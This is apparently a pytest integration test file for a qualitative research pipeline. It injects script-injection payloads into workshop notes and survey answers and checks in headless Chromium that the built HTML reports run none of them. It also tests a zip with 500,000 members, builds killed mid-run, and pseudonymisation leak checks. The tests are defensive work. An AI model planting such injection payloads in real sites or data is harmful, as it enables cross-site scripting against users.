# ---------------------------------------------------------------------------------------------------------

CHROMIUM = next((p for p in ("/usr/bin/chromium", "/usr/bin/chromium-browser") if Path(p).exists()), None)


def _dom(page: Path, profile: Path) -> str:
    return subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                           "--disable-component-update", "--disable-sync", "--no-first-run",
                           f"--user-data-dir={profile}", "--virtual-time-budget=3000", "--dump-dom", page.as_uri()],
                          capture_output=True, text=True, timeout=120).stdout


def _hostile_report_project(root: Path) -> Path:
    """The report fixture with every sticky note, comment and open survey answer (and a frame) carrying a
    payload, ingested, coded by hand and analysed."""
    import csv

    from report_fixture import write_codings, write_report_project

    from codesign.pipeline.steps import STEPS, run_pipeline

    write_report_project(root)
    columns = {"notes.csv": ("Sticky note", ",", "utf-8"), "comments.csv": ("Kommentti", ";", "utf-8-sig"),
               "w2.csv": ("Lappu", ",", "utf-8"), "survey.csv": ("Mitä pitäisi tehdä?", ";", "cp1252")}
    for number, (name, (column, delimiter, encoding)) in enumerate(columns.items()):
        path = root / "raw" / name
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""), delimiter=delimiter))
        at = rows[0].index(column)
        for k, row in enumerate(rows[1:]):
            if row and row[at]:
                row[at] += " " + PAYLOADS[(number + k) % len(PAYLOADS)]
        if name == "notes.csv":
            rows[1][0] = "1a Nykytila: " + PAYLOADS[1]          # a frame: the prompt of the notes
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
        path.write_bytes(out.getvalue().encode(encoding))
    runs = run_pipeline(load_project(root), steps=[s for s in STEPS if s.name == "ingest"])
    assert [r.status for r in runs] == ["ran"], runs
    write_codings(root)
    runs = run_pipeline(load_project(root), {}, steps=[s for s in STEPS if s.name == "analyse"])
    assert [r.status for r in runs] == ["ran"], runs
    return root


@pytest.mark.integration
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install -y chromium)")
def test_hostile_notes_execute_nothing_in_any_report(tmp_path):
    from codesign.pipeline.build import build

    root = _hostile_report_project(tmp_path / "tiny")
    segments = pd.read_parquet(root / "build" / "segments.parquet")
    assert segments["text"].str.contains("onerror|<script", regex=True).sum() >= 3     # the payloads are there
    result = build(root, reports_dir=tmp_path / "reports", quiet=True)
    assert result.exit_code == 0, [(n.name, n.error) for n in result.notebooks]
    pages = sorted(result.out_dir.glob("*.html"))
    assert len(pages) == 8
    shown = 0
    for page in pages:
        text = page.read_text(encoding="utf-8")
        shown += text.count("onerror")
        dom = _dom(page, tmp_path / "profile")
        assert "<html" in dom and "data-pwned" not in dom, page.name      # with the policy
        # and without it: the escaping alone holds
        bare = tmp_path / f"bare_{page.name}"
        bare.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), encoding="utf-8")
        dom = _dom(bare, tmp_path / "profile")
        assert "<html" in dom and "data-pwned" not in dom, page.name
    assert shown >= 3           # the payloads are shown, as text


@pytest.mark.integration
def test_half_a_million_members_are_handled(tmp_path, tiny_project, capsys):
    path = tmp_path / "many.qdpx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("project.qde", '<?xml version="1.0"?><Project xmlns="urn:QDA-XML:project:1.0" name="x"/>')
        for i in range(500_000):
            archive.writestr(f"sources/{i}.txt", "")
    code = main(["import-qdpx", str(path), str(tiny_project)])
    assert code in (0, 2) and "Traceback" not in capsys.readouterr().err


@pytest.mark.integration
def test_kill_9_during_a_build_keeps_latest_and_releases_the_lock(tmp_path, tiny_project):
    """A build killed at any moment (starting, in the pipeline, in a notebook): ``latest`` still names the last
    complete build, the lock is free, and the next build completes."""
    import os
    import signal
    import time

    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    from codesign.pipeline.build import build
    from codesign.pipeline.folders import resolve_latest
    from codesign.pipeline.lock import build_lock

    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    cell = new_code_cell("project = None\npause = 0")
    cell.metadata["tags"] = ["parameters"]
    nb = new_notebook(cells=[cell, new_code_cell("import time\ntime.sleep(pause)\nprint('valmis')")])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["codesign"] = {"title": "tauko", "reads": ["project"]}
    nbformat.write(nb, notebooks / "01_pause.ipynb")
    reports = tmp_path / "reports"
    first = build(tiny_project, reports_dir=reports, notebooks_dir=notebooks, quiet=True, run_steps=False)
    assert first.complete and resolve_latest(reports / "tiny") == first.out_dir.resolve()
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    for delay in (1.0, 4.0, 12.0):
        child = subprocess.Popen([sys.executable, "-m", "codesign", "build", str(tiny_project), "--force", "-p",
                                  "pause", "60", "--reports", str(reports), "--notebooks", str(notebooks)],
                                 env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        time.sleep(delay)
        os.killpg(child.pid, signal.SIGKILL)       # the build and its kernel
        child.wait()
        assert resolve_latest(reports / "tiny") == first.out_dir.resolve(), delay
        with build_lock(load_project(tiny_project), wait_s=1):
            pass
    again = build(tiny_project, reports_dir=reports, notebooks_dir=notebooks, quiet=True, run_steps=False, force=True)
    assert again.complete and resolve_latest(reports / "tiny") == again.out_dir.resolve()


def test_many_positions_move_like_pseudonymise_shift():
    import random

    from codesign.privacy.pseudonymise import Replacement, shift
    from codesign.sources.ingest import _shifter

    rng, reps, position = random.Random(1), [], 0
    for i in range(300):
        position += rng.randint(0, 20)
        length = rng.randint(1, 8)
        reps.append(Replacement(position, position + length, "person", "x" * length, f"[HENKILÖ-{i}]"))
        position += length
    moved = _shifter(reps)
    assert all(moved(p) == shift(p, reps) for p in range(position + 30))


def test_pseudonymising_in_many_chunks_leaves_no_name_the_gate_knows(tiny_project):
    """The tiny project pseudonymised in one chunk and in chunks of 200 characters: in both, no register name
    and no name the key table replaced anywhere is left (the leak gate's rule), and the texts agree."""
    from dataclasses import replace as with_changes

    from codesign.core.safety import Limits
    from codesign.privacy.leakcheck import check_outputs
    from codesign.privacy.pseudonymise import KeyTable, Pseudonymiser
    from codesign.sources.ingest import pseudonymise_documents

    project = load_project(tiny_project)
    register = load_register(project.register_path, project.groups)
    documents, _ = read_sources(project, register)
    texts = {}
    for chunk in (Limits().pseudonymise_chunk_chars, 200):
        keys = KeyTable()
        done = pseudonymise_documents(documents, Pseudonymiser(register, keys, project.keep_terms),
                                      limits=with_changes(Limits(), pseudonymise_chunk_chars=chunk), failures=[])
        folder = tiny_project / f"out-{chunk}"
        folder.mkdir()
        for document in done:
            (folder / f"{document.source_id}.txt").write_text(document.text, encoding="utf-8")
        assert check_outputs([folder], register, keys, project.keep_terms, raise_on_leak=False) == []
        texts[chunk] = {d.source_id: d.text for d in done}
    assert texts[200] == texts[Limits().pseudonymise_chunk_chars]
